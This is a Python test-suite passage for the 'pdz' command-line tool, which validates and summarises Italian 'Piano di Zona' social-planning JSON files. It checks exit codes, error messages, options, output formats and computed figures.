#!/usr/bin/python3
# test-cli.py: the pdz command, run as a subprocess
#
# SPDX-License-Identifier: LGPL-2.1-or-later
#
# Exit codes (0 clean, 1 warnings with --strict, 2 errors, an unreadable
# file, output that cannot be written, or bad usage), the one style of
# messages, the short options, the filters, output formats, colour (only
# on a terminal, never with NO_COLOR), Unicode (only in a UTF-8 locale,
# never with --ascii), terminal safety, on good and bad files. Figures are
# compared with what the library computes, through the Python bindings,
# and a few counted by hand from the example plan.
#
# Environment: PDZ_BIN (the pdz executable), PDZ_EXAMPLES_DIR,
# PDZ_TEST_DATA_DIR, PDZ_README; GI_TYPELIB_PATH and LD_LIBRARY_PATH for
# the bindings (the tests that need them are skipped without them).

import csv
import io
import json
import os
import pathlib
import re
import shlex
import subprocess
import tempfile
import unittest

from pdzcli import PDZ, bindings, environment, hint, pdz, pdz_on_terminal, write_plan

Pdz = bindings()

SOURCE = pathlib.Path(__file__).resolve().parents[1]
EXAMPLES = pathlib.Path(os.environ.get('PDZ_EXAMPLES_DIR', SOURCE / 'examples' / 'data'))
DATA = pathlib.Path(os.environ.get('PDZ_TEST_DATA_DIR', SOURCE / 'tests' / 'data'))
README = pathlib.Path(os.environ.get('PDZ_README', SOURCE / 'README.md'))
EXAMPLE = str(EXAMPLES / 'corsichese-2021-2023.json')
CHECKS = DATA / 'checks'
MISSING = str(DATA / 'no-such-plan.json')
COMMANDS = ('validate', 'summary', 'query', 'report')
DISK_FULL = 'standard output: cannot write: No space left on device'

ESC = '\x1b['

needs_bindings = unittest.skipIf(Pdz is None, 'the Python bindings are not available')


def pdz_to_full(*args):
    """Runs pdz with its standard output on /dev/full: (exit status, stderr)."""
    with open('/dev/full', 'wb') as full:
        result = subprocess.run([PDZ, *args], stdout=full, stderr=subprocess.PIPE,
                                env=environment(), timeout=60)
    return result.returncode, result.stderr.decode('utf-8')


def is_ascii(text):
    return all(ord(c) < 128 for c in text)


def load(path):
    return Pdz.Plan.load_path(str(path), None)


# A small plan with one of everything the filters look at. Hand-checked:
# a1 completed, planned, 2022-05, "ets,b" as partner (an id with a comma);
# a2 in progress, extra, 2023-02 to 2023-09, its sub-action a2-1 completed,
#    undated, comune-a as lead;
# a3 not stated (status and origin), no date, no milestone: undated; FNPS;
# b1 (objective o2, health-integration, macroarea m2) planned, a milestone
#    in 2023-11; the own body "ufficio" consulted;
# p1-a, held by project p1 (serving o1), completed, 2023.
FILTERS_PLAN = {
    'format': 'pdz', 'version': 2, 'id': 'filters', 'title': 'Filters', 'language': 'en',
    'start': '2021', 'end': '2023',
    'partners': [
        {'id': 'comune-a', 'name': 'Comune A', 'kind': 'municipality'},
        {'id': 'ets,b', 'name': 'ETS B', 'kind': 'third-sector'},
        {'id': 'ufficio', 'name': 'Ufficio di Piano', 'kind': 'own-body'},
    ],
    'macroareas': [{'id': 'm1', 'title': 'Macroarea one'}, {'id': 'm2', 'title': 'Macroarea two'}],
    'objectives': [
        {'id': 'o1', 'title': 'Objective one', 'macroarea': 'm1', 'status': 'in-progress',
         'actions': [
             {'id': 'a1', 'title': 'Zeta first', 'status': 'completed', 'origin': 'planned',
              'date': '2022-05', 'partners': [{'partner': 'ets,b', 'role': 'partner'}]},
             {'id': 'a2', 'title': 'Alpha second', 'status': 'in-progress', 'origin': 'extra',
              'date': '2023-02', 'end-date': '2023-09',
              'actions': [{'id': 'a2-1', 'title': 'Sub-point', 'status': 'completed',
                           'partners': [{'partner': 'comune-a', 'role': 'lead'}]}]},
             {'id': 'a3', 'title': 'Città libertà', 'fundings': [{'source': 'FNPS', 'amount': 125000}]},
         ]},
        {'id': 'o2', 'title': 'Objective two', 'macroarea': 'm2', 'kind': 'health-integration',
         'actions': [
             {'id': 'b1', 'title': 'Beta milestone', 'status': 'planned',
              'milestones': [{'date': '2023-11', 'title': 'A meeting'}],
              'partners': [{'partner': 'ufficio', 'role': 'consulted'}]},
         ]},
    ],
    'projects': [
        {'id': 'p1', 'title': 'Project one', 'objectives': ['o1'],
         'actions': [{'id': 'p1-a', 'title': 'Project action', 'status': 'completed', 'date': '2023'}]},
    ],
}


class Dispatcher(unittest.TestCase):
    def test_version(self):
        for args in (('--version',), ('-V',)) + tuple((c, '-V') for c in COMMANDS) + \
                tuple((c, '--version') for c in COMMANDS):
            status, out, err = pdz(*args)
            self.assertEqual((status, err), (0, ''), args)
            self.assertRegex(out, r'^pdz \d+\.\d+\.\d+\n$')

    def test_help(self):
        status, out, _ = pdz('--help')
        self.assertEqual(status, 0)
        for command in COMMANDS + ('help',):
            self.assertIn('  ' + command, out)
        self.assertIn('Exit status', out)
        self.assertIn('-V, --version', out)

    def test_help_command(self):
        for command in COMMANDS:
            for args in (('help', command), (command, '--help'), (command, '-h')):
                status, out, err = pdz(*args)
                self.assertEqual((status, err), (0, ''), args)
                self.assertIn('pdz ' + command, out)
                self.assertIn('-f, --format', out)
                self.assertIn('-h, --help', out)
                self.assertIn('-V, --version', out)

    def test_usage_errors(self):
        status, out, err = pdz()
        self.assertEqual((status, out), (2, ''))
        status, out, err = pdz('frobnicate')
        self.assertEqual((status, out), (2, ''))
        self.assertEqual(err, 'pdz: unknown command "frobnicate"\nTry \'pdz --help\' for more information.\n')
        status, _, err = pdz('help', 'frobnicate')
        self.assertEqual(status, 2)
        self.assertTrue(err.startswith('pdz: unknown command "frobnicate"\n'), err)
        status, _, err = pdz('--frobnicate')
        self.assertEqual(status, 2)
        self.assertTrue(err.startswith('pdz: unknown option "--frobnicate"\n'), err)


class ShortOptions(unittest.TestCase):
    """Only -f, -o, -l, -h and -V are short, and they mean the same in every
    subcommand that has them."""

    # What each subcommand takes: -f is the format everywhere; -o the
    # output file (report only); -l the language (not query, whose output
    # has no text in a language).
    ALLOWED = {
        'validate': (('-f', 'json'), ('-l', 'en')),
        'summary': (('-f', 'json'), ('-l', 'en')),
        'query': (('-f', 'json'),),
        'report': (('-f', 'md'), ('-l', 'en')),
    }
    REFUSED = ('-t', '-s', '-m', '-p', '-d', '-r', '-a', '-x')

    def test_allowed(self):
        for command, options in self.ALLOWED.items():
            for option, value in options:
                status, out, err = pdz(command, option, value, EXAMPLE)
                self.assertIn(status, (0, 1), (command, option, err))
                self.assertNotEqual(out, '')
                self.assertEqual(err, '')
        with tempfile.TemporaryDirectory() as tmp:
            out = os.path.join(tmp, 'r.html')
            status, _, err = pdz('report', '-o', out, EXAMPLE)
            self.assertEqual((status, err), (0, ''))
            self.assertTrue(os.path.getsize(out) > 0)
        # -f means the format, with the same long name, everywhere.
        for command in COMMANDS:
            _, out, _ = pdz(command, '--help')
            self.assertIn('-f, --format=FORMAT', out)

    def test_refused(self):
        for command in COMMANDS:
            refused = list(self.REFUSED)
            if command != 'report':
                refused.append('-o')
            if command == 'query':
                refused.append('-l')
            for option in refused:
                status, out, err = pdz(command, option, 'x', EXAMPLE)
                self.assertEqual((status, out), (2, ''), (command, option))
                self.assertEqual(err, 'pdz: %s: %s: unknown option\n%s\n' % (command, option, hint(command)))

    def test_help_lists_only_five(self):
        for command in COMMANDS:
            _, out, _ = pdz(command, '--help')
            shorts = set(re.findall(r'^\s+(-\w),', out, re.M))
            self.assertLessEqual(shorts, {'-f', '-o', '-l', '-h', '-V'}, command)


class Messages(unittest.TestCase):
    """One style: "pdz: SUBCOMMAND: FILE: where: what"; usage errors add a
    one-line hint; one condition, one message, from every subcommand."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        cls.dir = cls.tmp.name
        with open(EXAMPLE, encoding='utf-8') as f:
            cls.plan = write_plan(cls.dir, 'plan.json', json.load(f))
        (pathlib.Path(cls.dir) / 'bad.json').write_text('{\n  "format": "pdz",\n}\n')

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def run_each(self, extra, *args, cwd=None):
        """Each subcommand on @args: {command: (status, out, err)}."""
        results = {}
        for command in COMMANDS:
            more = ('-f', 'md') if command == 'report' else ()
            results[command] = pdz(command, *more, *extra.get(command, ()), *args, cwd=cwd)
        return results

    def test_missing_file_alike_everywhere(self):
        for name, cwd in ((MISSING, None), ('nofile.json', self.dir)):
            for command, (status, out, err) in self.run_each({}, name, cwd=cwd).items():
                self.assertEqual((status, out), (2, ''), command)
                self.assertEqual(err, 'pdz: %s: %s: cannot open: No such file or directory\n'
                                 % (command, name))

    def test_syntax_error(self):
        for command, (status, _, err) in self.run_each({}, 'bad.json', cwd=self.dir).items():
            self.assertEqual(status, 2)
            self.assertRegex(err, r"^pdz: %s: bad\.json:3:1: unexpected '}'" % command)
            self.assertEqual(err.count('\n'), 1)

    def test_directory(self):
        # A directory is a corpus (tests/test-cli-corpus.py): its bad files
        # are named, and fail the command.
        for command, (status, _, err) in self.run_each({}, self.dir).items():
            self.assertEqual(status, 2)
            self.assertIn('pdz: %s: %s/bad.json:3:1: ' % (command, self.dir), err)

    def test_uri(self):
        uri = 'http://example.com/plan.json'
        for command, (status, out, err) in self.run_each({}, uri).items():
            self.assertEqual((status, out), (2, ''))
            self.assertTrue(err.startswith('pdz: %s: %s: not a local file' % (command, uri)), err)
            self.assertEqual(err.count('\n'), 1)
        # A file:// URI is a local file.
        for command, (status, out, err) in self.run_each({}, pathlib.Path(self.plan).as_uri()).items():
            self.assertIn(status, (0, 1), (command, err))
            self.assertNotEqual(out, '')
        status, _, err = pdz('report', self.plan, '-o', 'http://example.com/r.html')
        self.assertEqual(status, 2)
        self.assertTrue(err.startswith('pdz: report: http://example.com/r.html: not a local file'), err)

    def test_unknown_language(self):
        for command in ('validate', 'summary', 'report'):
            for option in ('--lang', '-l', '--language'):
                status, out, err = pdz(command, option, 'fr', self.plan)
                self.assertEqual((status, out), (2, ''))
                self.assertEqual(err, 'pdz: %s: --lang: unknown language "fr" (expected it, en)\n%s\n'
                                 % (command, hint(command)))

    def test_cannot_write(self):
        status, _, err = pdz('report', 'plan.json', '-o', 'out/r.html', cwd=self.dir)
        self.assertEqual(status, 2)
        self.assertEqual(err, 'pdz: report: out/r.html: cannot write: No such file or directory\n')
        self.assertFalse(os.path.exists(os.path.join(self.dir, 'out')))

    def test_usage_errors_have_a_hint(self):
        cases = [
            ('validate', '--format', 'xml', self.plan),
            ('validate', '--disable', 'no-such-code', self.plan),
            ('validate', '--reference-date', '2023-13', self.plan),
            ('validate',),
            ('summary', '--format', 'xml', self.plan),
            ('summary', '--top', '-1', self.plan),
            ('summary', '--table', 'by-colour', '-f', 'csv', self.plan),
            ('summary', '--table', 'by-status', self.plan),
            ('summary', '--table', 'by-quarter', '-f', 'csv', self.plan, self.plan),
            ('query', '--format', 'xml', self.plan),
            ('query', '--status', 'finished', self.plan),
            ('query', '--origin', 'somewhere', self.plan),
            ('query', '--role', 'boss', self.plan),
            ('query', '--partner-kind', 'bank', self.plan),
            ('query', '--objective-kind', 'dream', self.plan),
            ('query', '--sort', 'size', self.plan),
            ('query', '--start', '2023-13', self.plan),
            ('query', '--undated', '--start', '2023', self.plan),
            ('query', '--csv-dialect', 'excel-it', self.plan),
            ('query',),
            ('report', '--table', 'nope', '-f', 'csv', self.plan),
            ('report', '-o', 'notes.txt', self.plan),
            ('report', '--date', '2023', self.plan),
        ]
        for args in cases:
            status, out, err = pdz(*args)
            self.assertEqual((status, out), (2, ''), args)
            lines = err.splitlines()
            self.assertEqual(len(lines), 2, (args, err))
            self.assertTrue(lines[0].startswith('pdz: %s: ' % args[0]), (args, err))
            self.assertEqual(lines[1], hint(args[0]))

    def test_value_errors_name_option_and_value(self):
        status, _, err = pdz('query', '--status', 'finished', self.plan)
        self.assertEqual(err.splitlines()[0],
                         'pdz: query: --status: unknown status "finished" (expected planned, in-progress, '
                         'completed, suspended, cancelled, not-stated)')
        status, _, err = pdz('query', '--partner', 'nobody', self.plan)
        # Not a usage error: the plan lacks the id. One line, the file first.
        self.assertEqual((status, err),
                         (2, 'pdz: query: %s: --partner: no partner with the id "nobody"\n' % self.plan))
        status, _, err = pdz('report', '--partner', 'nobody', '-f', 'md', self.plan)
        self.assertEqual(status, 2)
        self.assertTrue(err.startswith('pdz: report: '), err)


class DiskFull(unittest.TestCase):
    """Output that cannot be written is an error, exit 2, in every subcommand."""

    def test_dev_full(self):
        cases = [
            ('validate', EXAMPLE),
            ('validate', '-f', 'json', EXAMPLE),
            ('validate', '--list-codes'),
            ('summary', EXAMPLE),
            ('summary', '-f', 'json', EXAMPLE),
            ('summary', '-f', 'csv', EXAMPLE),
            ('query', EXAMPLE),
            ('query', '-f', 'csv', EXAMPLE),
            ('query', '-f', 'json', EXAMPLE),
            ('report', '-f', 'md', EXAMPLE),
            ('report', '-f', 'html', EXAMPLE),
            ('report', '-f', 'csv', '--table', 'actions', EXAMPLE),
            ('query', '--help'),
            ('summary', '-V'),
        ]
        for args in cases:
            status, err = pdz_to_full(*args)
            self.assertEqual(status, 2, args)
            self.assertEqual(err, 'pdz: %s: %s\n' % (args[0], DISK_FULL), args)
        status, err = pdz_to_full('--version')
        self.assertEqual((status, err), (2, 'pdz: %s\n' % DISK_FULL))

    def test_nothing_to_write(self):
        # A clean plan: validate prints nothing, and a full disk is no error.
        status, err = pdz_to_full('validate', str(CHECKS / 'clean.json'))
        self.assertEqual((status, err), (0, ''))


class Validate(unittest.TestCase):
    LINE = re.compile(r'^(?P<file>[^:]+): (?P<pointer>/[^:]*): '
                      r'(?P<severity>error|warning|info)\[(?P<code>[a-z-]+)\]: (?P<message>.+)$')

    def test_clean(self):
        for args in ((), ('--strict',)):
            status, out, err = pdz('validate', *args, str(CHECKS / 'clean.json'))
            self.assertEqual((status, out, err), (0, '', ''))

    def test_warnings_and_strict(self):
        path = str(CHECKS / 'objective-without-actions.json')
        status, out, _ = pdz('validate', path)
        self.assertEqual(status, 0)
        lines = out.splitlines()
        self.assertEqual(len(lines), 1)
        match = self.LINE.match(lines[0])
        self.assertIsNotNone(match, lines[0])
        self.assertEqual(match['file'], path)
        self.assertEqual(match['pointer'], '/objectives/1')
        self.assertEqual(match['severity'], 'warning')
        self.assertEqual(match['code'], 'objective-without-actions')
        status, _, _ = pdz('validate', '--strict', path)
        self.assertEqual(status, 1)

    def test_infos_pass_strict(self):
        status, out, _ = pdz('validate', '--strict', str(CHECKS / 'partner-unreferenced.json'))
        self.assertEqual(status, 0)
        self.assertIn('info[partner-unreferenced]', out)

    def test_error(self):
        status, out, _ = pdz('validate', str(CHECKS / 'end-before-start.json'))
        self.assertEqual(status, 2)
        self.assertIn(': /objectives/0/actions/1: error[end-before-start]: ', out)

    def test_malformed_files(self):
        bad = sorted((DATA / 'bad').glob('*.json'))
        self.assertTrue(bad, 'no bad input in %s' % (DATA / 'bad'))
        for path in bad:
            status, out, err = pdz('validate', str(path))
            self.assertEqual((status, out), (2, ''), path)
            # The file, then where in it: LINE:COLUMN: or a JSON pointer.
            self.assertRegex(err, r'^pdz: validate: %s(:\d+:\d+: |: /[^ ]*: )' % re.escape(str(path)))
            self.assertEqual(err.count('\n'), 1, err)

    def test_several_files(self):
        clean = str(CHECKS / 'clean.json')
        warned = str(CHECKS / 'indicator-without-measurement.json')
        status, out, err = pdz('validate', clean, MISSING, warned)
        self.assertEqual(status, 2)
        self.assertIn(warned + ': /objectives/0/indicators/0: warning[indicator-without-measurement]', out)
        self.assertEqual(err, 'pdz: validate: %s: cannot open: No such file or directory\n' % MISSING)
        status, out, _ = pdz('validate', '--strict', clean, warned)
        self.assertEqual(status, 1)

    def test_every_code(self):
        status, out, _ = pdz('validate', '--list-codes')
        self.assertEqual(status, 0)
        codes = [line.split()[0] for line in out.splitlines()]
        self.assertGreaterEqual(len(codes), 12)
        for code in codes:
            case = CHECKS / (code + '.json')
            if not case.exists():
                continue
            status, out, _ = pdz('validate', '--reference-date', '2023-10-31', str(case))
            self.assertIn('[%s]' % code, out)

    def test_reference_date(self):
        path = str(CHECKS / 'action-completed-in-future.json')
        status, out, _ = pdz('validate', '--reference-date', '2023-10-31', path)
        self.assertIn('warning[action-completed-in-future]', out)
        status, _, err = pdz('validate', '--reference-date', '2023-13', path)
        self.assertEqual(status, 2)
        self.assertTrue(err.startswith('pdz: validate: --reference-date: '), err)

    def test_disable_and_language(self):
        path = str(CHECKS / 'objective-without-actions.json')
        status, out, _ = pdz('validate', '--strict', '--disable', 'objective-without-actions', path)
        self.assertEqual((status, out), (0, ''))
        status, _, err = pdz('validate', '--disable', 'no-such-code', path)
        self.assertEqual(status, 2)
        self.assertTrue(err.startswith('pdz: validate: --disable: unknown code "no-such-code"'), err)
        for option in ('--lang', '--language', '-l'):
            status, out, _ = pdz('validate', option, 'it', path)
            self.assertIn("l'obiettivo «Objective two» non ha azioni", out)

    def test_json(self):
        status, out, _ = pdz('validate', '--format', 'json', EXAMPLE, MISSING)
        self.assertEqual(status, 2)
        report = json.loads(out)
        self.assertEqual(len(report['files']), 2)
        example, missing = report['files']
        self.assertTrue(example['loaded'])
        self.assertFalse(missing['loaded'])
        # The same message as on stderr, the file as given.
        self.assertEqual(missing['error'], '%s: cannot open: No such file or directory' % MISSING)
        self.assertEqual(missing['diagnostics'], [])
        self.assertEqual(report['unreadable'], 1)
        self.assertEqual(report['errors'], 0)
        self.assertEqual(set(example['diagnostics'][0]), {'pointer', 'severity', 'code', 'message'})
        counts = {s: sum(1 for d in example['diagnostics'] if d['severity'] == s)
                  for s in ('error', 'warning', 'info')}
        self.assertEqual((counts['warning'], counts['info']), (report['warnings'], report['infos']))

    @needs_bindings
    def test_example_as_the_library_checks_it(self):
        diagnostics = load(EXAMPLE).check(None)
        status, out, err = pdz('validate', EXAMPLE)
        self.assertEqual((status, err), (0, ''))
        lines = out.splitlines()
        self.assertEqual(len(lines), len(diagnostics))
        for line, diagnostic in zip(lines, diagnostics):
            match = self.LINE.match(line)
            self.assertIsNotNone(match, line)
            self.assertEqual((match['pointer'], match['code']),
                             (diagnostic.get_pointer(), diagnostic.get_code()))
        self.assertFalse([line for line in lines if 'error[' in line])


# ---- summary ---------------------------------------------------------------

class Summary(unittest.TestCase):
    def macroarea_line(self, out, name):
        lines = [line for line in out.splitlines() if line.startswith(name + ' ')]
        self.assertEqual(len(lines), 1, name)
        return lines[0][len(name):].split()

    def test_text_italian(self):
        status, out, err = pdz('summary', EXAMPLE)
        self.assertEqual((status, err), (0, ''))
        self.assertTrue(out.startswith('Piano di Zona 2021-2023\n'))
        self.assertIn('Ambito del Corsichese · piano 2021 – 2023 · lingua it\n', out)
        self.assertIn('Monitoraggio: Monitoraggio attuazione e azioni extra, marzo 2022 – ottobre 2023\n', out)
        self.assertIn('\n19 obiettivi · 31 azioni · 16 progetti\n', out)
        # The named base of doc/queries.md, counted by hand there.
        self.assertIn('\n10 di 31 azioni concluse (32%)\n', out)
        self.assertRegex(out, r'\nStato delle azioni per macroarea +ob\. +az\. +prev +corso +concl +sosp'
                              r' +ann +n\.i\. +concluse\n')
        # objectives, actions, then planned .. cancelled, not stated
        self.assertEqual(self.macroarea_line(out, 'Politiche abitative'),
                         ['2', '5', '0', '1', '2', '0', '0', '2', '████░░░░░░', '40%'])
        self.assertEqual(self.macroarea_line(out, 'Azioni dei progetti'),
                         ['0', '2', '0', '0', '2', '0', '0', '0', '██████████', '100%'])
        self.assertEqual(self.macroarea_line(out, 'Senza macroarea')[:2], ['8', '0'])
        self.assertEqual(self.macroarea_line(out, 'Totale')[:8], ['19', '31', '0', '8', '10', '0', '0', '13'])
        self.assertRegex(out, r'\nPartner principali +azioni progetti  ruoli\n')
        self.assertRegex(out, r'\n  1 Prefettura di Milano +2 +0  firmatario, non indicato\n')
        self.assertIn('\n    … (+9)\n', out)
        # The Ambito's own bodies apart from the partners.
        self.assertRegex(out, r'\nOrgani dell’Ambito +azioni progetti  ruoli\n  1 Assemblea dei Sindaci +2 ')
        self.assertRegex(out, r'\nFinanziamenti per fonte +numero +importo  importo non indicato\n')
        self.assertRegex(out, r'\nPNRR +4 +— +4\n')
        self.assertRegex(out, r'\nAzioni previste e azioni extra\n  previsto dal Piano +0 ')
        self.assertRegex(out, r'\n  extra +1 ')
        self.assertRegex(out, r'\n  non indicato +30 ')
        self.assertRegex(out, r'\n  Totale +31\n')
        self.assertNotIn(ESC, out)
        # No line ends in a space.
        self.assertFalse([line for line in out.splitlines() if line.endswith(' ')])

    def test_text_english(self):
        for option in ('--lang', '-l', '--language'):
            status, out, err = pdz('summary', option, 'en', EXAMPLE)
            self.assertEqual((status, err), (0, ''), option)
            self.assertIn('Ambito del Corsichese · plan 2021 – 2023 · language it\n', out)
            self.assertIn('March 2022 – October 2023', out)
            self.assertIn('\n19 objectives · 31 actions · 16 projects\n', out)
            self.assertIn('\n10 of 31 actions completed (32%)\n', out)
            self.assertEqual(self.macroarea_line(out, 'Project actions')[:2], ['0', '2'])
            self.assertRegex(out, r'\nTop partners +actions projects  roles\n')
            self.assertRegex(out, r'\n  1 Prefettura di Milano +2 +0  signatory, not stated\n')
            self.assertRegex(out, r'\n  foreseen by the plan +0 ')

    def test_ascii_locale(self):
        status, out, _ = pdz('summary', EXAMPLE, LC_ALL='C')
        self.assertEqual(status, 0)
        self.assertTrue(is_ascii(out), [c for c in out if ord(c) >= 128][:5])
        self.assertIn('####......  40%', out)
        self.assertIn('Citta Metropolitana di Milano', out)
        self.assertIn('19 obiettivi - 31 azioni', out)
        self.assertIn('    ... (+9)', out)

    def test_ascii_option(self):
        status, out, _ = pdz('summary', '--ascii', EXAMPLE)
        self.assertEqual(status, 0)
        self.assertTrue(is_ascii(out))
        self.assertIn('####......', out)

    def test_colour_only_on_terminal(self):
        status, out = pdz_on_terminal('summary', EXAMPLE)
        self.assertEqual(status, 0)
        self.assertIn(ESC, out)
        for no_color in ('1', 'yes'):
            status, out = pdz_on_terminal('summary', EXAMPLE, NO_COLOR=no_color)
            self.assertEqual(status, 0)
            self.assertNotIn(ESC, out)
            self.assertIn('Politiche abitative', out)
        # NO_COLOR set but empty does not count (no-color.org).
        _, out = pdz_on_terminal('summary', EXAMPLE, NO_COLOR='')
        self.assertIn(ESC, out)
        # LC_ALL=C on a terminal: colour, and ASCII.
        _, out = pdz_on_terminal('summary', EXAMPLE, LC_ALL='C')
        self.assertIn(ESC, out)
        self.assertTrue(is_ascii(out))

    def test_validate_colour(self):
        path = str(CHECKS / 'objective-without-actions.json')
        _, out = pdz_on_terminal('validate', path)
        self.assertIn(ESC + '1;33mwarning[objective-without-actions]', out)
        _, out = pdz_on_terminal('validate', path, NO_COLOR='1')
        self.assertNotIn(ESC, out)

    def test_binary_report_not_on_terminal(self):
        # XLSX, PDF and ODP bytes are refused on a terminal (usage error),
        # and written when the output is a pipe or a file.
        for fmt in ('xlsx', 'pdf', 'odp'):
            status, out = pdz_on_terminal('report', '-f', fmt, EXAMPLE)
            self.assertEqual((status, out), (2, ''), fmt)

    def test_bad_input(self):
        status, _, _ = pdz('summary')
        self.assertEqual(status, 2)
        status, out, err = pdz('summary', '--top', 'x', EXAMPLE)
        self.assertEqual((status, out), (2, ''))
        self.assertEqual(err.splitlines()[1], hint('summary'))


class SummaryJson(unittest.TestCase):
    TABLES = ['by-status', 'by-macroarea', 'by-objective', 'by-project', 'by-partner',
              'by-funding-source', 'by-funding-status', 'by-origin', 'by-year', 'by-quarter',
              'by-month']

    def summary(self, *args):
        status, out, err = pdz('summary', '--format', 'json', *args)
        self.assertEqual((status, err), (0, ''))
        return out, json.loads(out)

    def test_shape(self):
        _, summary = self.summary(EXAMPLE)
        self.assertEqual(list(summary), ['plan', 'totals'] + self.TABLES)
        self.assertEqual(summary['plan'], {
            'id': 'corsichese-2021-2023', 'title': 'Piano di Zona 2021-2023',
            'ambito': 'Ambito del Corsichese', 'language': 'it', 'start': '2021', 'end': '2023',
            'monitoring': {'title': 'Monitoraggio attuazione e azioni extra',
                           'start': '2022-03', 'end': '2023-10'}})
        self.assertEqual(list(summary['totals']),
                         ['objectives', 'actions', 'projects', 'extra-actions', 'completed-actions',
                          'completion-rate'])
        self.assertEqual(summary['totals']['actions'], 31)
        self.assertEqual(summary['totals']['completed-actions'], 10)
        by_macroarea = {row['macroarea']: row for row in summary['by-macroarea']}
        self.assertEqual(by_macroarea['+projects']['group'], 'project-actions')
        self.assertEqual(by_macroarea['+projects']['actions'], 2)
        self.assertEqual(by_macroarea['politiche-abitative']['actions-not-stated'], 2)
        self.assertEqual(summary['by-funding-source'][0],
                         {'source': 'PNRR', 'fundings': 4, 'amount': 0, 'unknown-amounts': 4,
                          'amount-overflow': False})

    def test_stable(self):
        out, summary = self.summary(EXAMPLE)
        # The same text each time, in any language and locale.
        self.assertEqual(self.summary(EXAMPLE)[0], out)
        for args in (('--lang', 'en'), ('--lang', 'it')):
            self.assertEqual(self.summary(*args, EXAMPLE)[0], out, args)
        status, out_c, _ = pdz('summary', '--format', 'json', EXAMPLE, LC_ALL='C')
        self.assertEqual(out_c, out)

    @needs_bindings
    def test_tables_are_the_library_s(self):
        _, summary = self.summary(EXAMPLE)
        stats = Pdz.Stats.new(load(EXAMPLE))
        for name in self.TABLES:
            table = getattr(stats, name.replace('-', '_'))()
            expected = json.loads(table.to_json())
            for row in expected:
                if 'amount-overflow' in row:
                    row['amount-overflow'] = bool(row['amount-overflow'])
            self.assertEqual(summary[name], expected, name)
        totals = summary['totals']
        self.assertEqual(totals['objectives'], stats.get_n_objectives())
        self.assertEqual(totals['actions'], stats.get_n_actions())
        self.assertEqual(totals['projects'], stats.get_n_projects())
        self.assertEqual(totals['extra-actions'], stats.get_n_extra_actions())
        self.assertEqual(totals['completion-rate'], stats.get_completion_rate())


@needs_bindings
class SummaryFigures(unittest.TestCase):
    """Every figure of the text is the PdzStats one."""

    def test_macroareas(self):
        stats = Pdz.Stats.new(load(EXAMPLE))
        status, out, _ = pdz('summary', '--lang', 'en', EXAMPLE)
        self.assertEqual(status, 0)
        statuses = ['planned', 'in-progress', 'completed', 'suspended', 'cancelled', 'not-stated']
        for row in stats.by_macroarea():
            title = {'no-macroarea': 'No policy area',
                     'project-actions': 'Project actions'}.get(row['group'], row['title'])
            line = [l for l in out.splitlines() if l.startswith(title + ' ')][0]
            cells = line[len(title):].split()
            expected = [row['objectives'], row['actions']] + [row['actions-' + s] for s in statuses]
            self.assertEqual([int(c) for c in cells[:8]], expected, title)
            self.assertEqual(cells[9], '%.0f%%' % (row['actions-completion-rate'] * 100))
        by_status = stats.by_status()
        total = [l for l in out.splitlines() if l.startswith('Total ')][0].split()[1:9]
        self.assertEqual([int(c) for c in total],
                         [stats.get_n_objectives(), stats.get_n_actions()] +
                         [by_status.lookup_row(s)['actions'] for s in statuses])
        completed = by_status.lookup_row('completed')['actions']
        self.assertIn('\n%s\n' % Pdz.format_completed_of(completed, stats.get_n_actions(), 'en'), out)

    def test_partners_and_origin(self):
        stats = Pdz.Stats.new(load(EXAMPLE))
        _, out, _ = pdz('summary', '--lang', 'en', '--top', '100', EXAMPLE)
        for row in stats.by_partner():
            # The name as the table cuts it, then the figures.
            self.assertRegex(out, r'\n +\d+ %s[^\n]* +%d +%d  ' % (re.escape(row['name'][:30]),
                                                                  row['actions'], row['projects']))
        for row in stats.by_origin():
            label = Pdz.enum_get_label(Pdz.Origin.__gtype__,
                                       {'not-stated': 0, 'planned': 1, 'extra': 2}[row['origin']], 'en')
            self.assertRegex(out, r'\n  %s +%d ' % (re.escape(label), row['actions']))


class SummaryAmounts(unittest.TestCase):
    """Amounts in the output's language, never truncated; an overflowing
    total explicit in every format."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        plan = json.loads((CHECKS / 'clean.json').read_text(encoding='utf-8'))
        plan['projects'][0]['fundings'] = [
            {'source': 'FNPS', 'amount': 125000, 'status': 'granted'},
            {'source': 'Fondo nazionale per un importo molto grande', 'amount': 9223372036854775807},
        ]
        cls.wide = write_plan(cls.tmp.name, 'wide.json', plan)
        plan['projects'][0]['fundings'][1:] = [{'source': 'PNRR', 'amount': 9223372036854775807},
                                               {'source': 'pnrr', 'amount': 1}]
        cls.overflow = write_plan(cls.tmp.name, 'overflow.json', plan)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def test_language(self):
        _, italian, _ = pdz('summary', '--lang', 'it', self.wide)
        _, english, _ = pdz('summary', '--lang', 'en', self.wide)
        self.assertRegex(italian, r'\nFNPS +1 +€\u00a01\.250,00  0\n')
        self.assertRegex(english, r'\nFNPS +1 +€1,250\.00  0\n')

    def test_never_truncated(self):
        for language, amount in (('it', '€\u00a092.233.720.368.547.758,07'),
                                 ('en', '€92,233,720,368,547,758.07')):
            _, out, _ = pdz('summary', '--lang', language, self.wide)
            self.assertIn(' %s  0\n' % amount, out)
        _, out, _ = pdz('summary', '--lang', 'en', self.wide, LC_ALL='C')
        self.assertIn(' EUR92,233,720,368,547,758.07  0\n', out)

    def test_overflow(self):
        _, italian, _ = pdz('summary', '--lang', 'it', self.overflow)
        _, english, _ = pdz('summary', '--lang', 'en', self.overflow)
        self.assertRegex(italian, r'\nPNRR +2 +non calcolabile  0\n')
        self.assertRegex(english, r'\nPNRR +2 +not computable  0\n')
        _, out, _ = pdz('summary', '--format', 'json', self.overflow)
        pnrr = json.loads(out)['by-funding-source'][0]
        self.assertEqual(pnrr, {'source': 'PNRR', 'fundings': 2, 'amount': None, 'unknown-amounts': 0,
                                'amount-overflow': True})
        self.assertNotIn('9223372036854775807', out)
        _, out, _ = pdz('summary', '--format', 'csv', '--table', 'by-funding-source', self.overflow)
        self.assertIn('\r\nPNRR,2,0,0,1\r\n', out)


class SummaryCsv(unittest.TestCase):
    def test_default_table(self):
        status, out, err = pdz('summary', '-f', 'csv', EXAMPLE)
        self.assertEqual((status, err), (0, ''))
        rows = list(csv.DictReader(io.StringIO(out, newline='')))
